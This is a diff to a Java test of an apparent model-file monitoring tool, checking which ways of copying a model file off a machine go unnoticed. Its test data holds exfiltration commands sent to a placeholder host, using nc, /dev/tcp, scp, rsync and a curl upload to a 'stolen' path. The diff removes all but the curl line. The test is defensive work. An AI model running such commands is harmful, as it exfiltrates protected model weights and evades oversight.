@@ -47,33 +47,8 @@ class ProgramBlindSpotsTest {
       quoteCharacter = '`',
       textBlock =
           """
-          pipe to another program          ; gzip  ; gzip -1c MODEL | nc.openbsd -N HOST 4433
-          pipe to a child of the reader    ; tar   ; tar -czPf - MODEL >/dev/tcp/HOST/4433
-          unix socket to a child, by scp   ; scp   ; scp OPTIONS MODEL root@HOST:stolen
-          unix socket to a child, by rsync ; rsync ; rsync -e "ssh OPTIONS" MODEL root@HOST:stolen
           copy on disk                     ; cp    ; cp MODEL COPY && curl -sS -T COPY http://HOST:8081/stolen
           """)
-  @Way(
-      value = "a pipe to another program",
-      of = TRAIL,
-      bytes = UNCOUNTED,
-      by = SYS_EXIT,
-      when = "pipe to another program",
-      note = "the read")
-  @Way(
-      value = "a pipe to a child forked before the read",
-      of = TRAIL,
-      bytes = UNCOUNTED,
-      by = SYS_EXIT,
-      when = "pipe to a child of the reader",
-      note = "the read")
-  @Way(
-      value = "scp and rsync over ssh",
-      of = TRAIL,
-      bytes = UNCOUNTED,
-      by = SYS_EXIT,
-      when = {"unix socket to a child, by scp", "unix socket to a child, by rsync"},
-      note = "the read")
   @Way(
       value = "a copy on disk, sent by another program",
       of = TRAIL,
@@ -90,18 +65,13 @@ class ProgramBlindSpotsTest {
         command
             .replace("MODEL", model.toString())
             .replace("COPY", folder.resolve("copy").toString())
-            .replace("OPTIONS", outside.sshOptions)
             .replace("HOST", PublicNamespace.OUTSIDE));
     RunningCollector.await("the loot", () -> outside.received() >= MODEL_BYTES);
     stage.settle(name);
 
     assertThat(stage.read(model)).isEqualTo(MODEL_BYTES);
     assertThat(stage.total("modelwarden.file.io", model.toString(), reader)).isEqualTo(MODEL_BYTES);
-    long local = stage.total("modelwarden.network.io", name, reader, "unix", "local");
-    if (blindSpot.startsWith("unix socket")) {
-      assertThat(local).isBetween(MODEL_BYTES, MODEL_BYTES * 101 / 100);
-    }
-    assertThat(stage.total("modelwarden.network.io", name)).isEqualTo(local);
+    assertThat(stage.total("modelwarden.network.io", name)).isZero();
     assertThat(stage.spans("send tcp", name)).isEmpty();
     assertThat(stage.findings(name)).isEmpty();
   }
